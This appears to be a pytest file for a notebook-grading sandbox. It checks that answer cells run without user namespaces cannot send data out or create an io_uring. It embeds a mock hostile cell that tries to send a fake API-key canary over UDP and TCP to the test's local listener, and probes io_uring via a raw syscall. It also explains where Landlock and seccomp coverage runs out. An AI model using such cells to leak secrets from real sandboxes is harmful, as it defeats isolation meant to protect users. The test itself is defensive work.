"""Answer cells graded without the sandbox reach no network, and the grading says what held on the machine.

Where the kernel gives a normal user no user namespace, ``harness-lab grade`` runs the answer cells as its
caller. Landlock's network rules handle TCP alone, and only from ABI 4 (Linux 6.7): UDP went anywhere, and
TCP too on an older kernel, so a cell could send what it found (a key-like string) to a listener of anyone's.
A listener of the test's stands for that; the machine is made with seccomp filters (``no_user_namespaces.py``).
"""

from __future__ import annotations

import shutil
import socket
import tempfile
from pathlib import Path

import pytest

import harness_lab.grading.catalog  # noqa: F401 (the verdicts join the catalog)
from harness_lab.text import CATALOG
from tests.grading import no_user_namespaces
from tests.process_ids import landlock_abi

ROOT = Path(__file__).resolve().parents[2]
SOLUTION = ROOT / "exercises" / "solutions" / "level1_tiered_policy.ipynb"
ALL_PASSED = CATALOG["grade.all_passed"][1].format(total=3)  # the English side
CANARY = b"sk-ant-api03-CANARY-SENT-BY-AN-ANSWER-CELL-0000"
# Sends the canary to the test's listener over UDP and TCP, each on IPv4; what fails is passed over. Then
# fails the grading if it can make an io_uring.
SEND = """
import socket as _socket
for _kind in (_socket.SOCK_DGRAM, _socket.SOCK_STREAM):
    try:
        _s = _socket.socket(_socket.AF_INET, _kind)
        _s.settimeout(2)
        _s.connect(("127.0.0.1", PORT))
        _s.sendall(CANARY)
        _s.close()
    except OSError:
        pass
import ctypes as _ctypes
_ring = _ctypes.CDLL(None).syscall(425, 4, _ctypes.create_string_buffer(120))  # io_uring_setup, both machines
if _ring >= 0:  # a ring makes and connects sockets of any family without the socket call
    raise RuntimeError("RING MADE")
"""
MACHINES = {
    "with Landlock": no_user_namespaces.PRELUDE,
    "without Landlock": no_user_namespaces.PRELUDE + no_user_namespaces.without_landlock("ENOSYS"),
}

pytestmark = no_user_namespaces.NEEDED


@pytest.fixture(scope="module", params=list(MACHINES))
def graded(request):
    """A right answer with one more answer cell that sends the canary, graded on the machine; the run, and
    what the listeners got (UDP's datagram, TCP's connection)."""
    folder = Path(tempfile.mkdtemp())  # any user may enter it: the tests grade as a normal user
    folder.chmod(0o777)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp, socket.socket() as tcp:
        udp.bind(("127.0.0.1", 0))
        tcp.bind(("127.0.0.1", udp.getsockname()[1]))  # the one port for both: the cell tries each kind on it
        tcp.listen()
        source = SEND.replace("PORT", str(udp.getsockname()[1])).replace("CANARY", repr(CANARY))
        done = no_user_namespaces.grade(folder, no_user_namespaces.with_a_cell(folder, source), MACHINES[request.param])
        udp.setblocking(False)
        tcp.setblocking(False)
        got = {"udp": _datagram(udp), "tcp": _connection(tcp)}
    shutil.rmtree(folder)
    return request.param, done, got


def test_answer_cells_graded_without_namespaces_send_nothing_over_the_network(graded):
    machine, done, got = graded
    # was the canary over UDP with Landlock, and over UDP and TCP without it
    assert got == {"udp": b"", "tcp": b""}, machine
    assert (done.returncode, ALL_PASSED in done.stdout) == (0, True), done.stdout + done.stderr


def test_answer_cells_graded_without_namespaces_make_no_io_uring(graded):
    machine, done, _ = graded
    # was the cell's "RuntimeError: RING MADE" in the grade, on either machine
    assert "RING MADE" not in done.stdout, machine


@pytest.mark.skipif(landlock_abi() < 1, reason="the kernel has no Landlock")
def test_grading_without_namespaces_says_what_kept_the_answer_cells_in(graded):
    machine, done, _ = graded
    kept = CATALOG["grade.sandbox.not_isolated"][1] in done.stderr
    open_ = CATALOG["grade.sandbox.not_isolated.files_open"][1] in done.stderr
    # was "they reach your files and the network" on either machine
    assert (kept, open_) == ((True, False) if machine == "with Landlock" else (False, True)), done.stderr


@pytest.mark.skipif(landlock_abi() < 1 or shutil.which("setarch") is None, reason="no Landlock, or no setarch")
def test_grading_where_the_filter_does_not_know_the_machine_does_not_say_no_network():
    """``setarch linux32`` makes the machine one the filter does not know (``i686`` on x86-64, ``armv8l`` on ARM64),
    as a POWER or RISC-V machine is: Landlock holds, the filter is not installed."""
    folder = Path(tempfile.mkdtemp())
    folder.chmod(0o777)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.bind(("127.0.0.1", 0))
        source = SEND.replace("PORT", str(udp.getsockname()[1])).replace("CANARY", repr(CANARY))
        notebook = no_user_namespaces.with_a_cell(folder, source)
        done = no_user_namespaces.grade(folder, notebook, no_user_namespaces.PRELUDE, ("setarch", "linux32"))
        udp.setblocking(False)
        got = _datagram(udp)
    shutil.rmtree(folder)
    said = [key for key in CATALOG if key.startswith("grade.sandbox.not_isolated") and CATALOG[key][1] in done.stderr]
    # was "grade.sandbox.not_isolated" ("... or the network") while the canary came over UDP
    assert (got, said) == (CANARY, ["grade.sandbox.not_isolated.network_open"]), done.stdout + done.stderr


def _datagram(udp: socket.socket) -> bytes:
    try:
        return udp.recv(4096)
    except BlockingIOError:
        return b""


def _connection(tcp: socket.socket) -> bytes:
    try:
        connection, _ = tcp.accept()
    except BlockingIOError:
        return b""
    with connection:
        connection.settimeout(5)
        return connection.recv(4096)
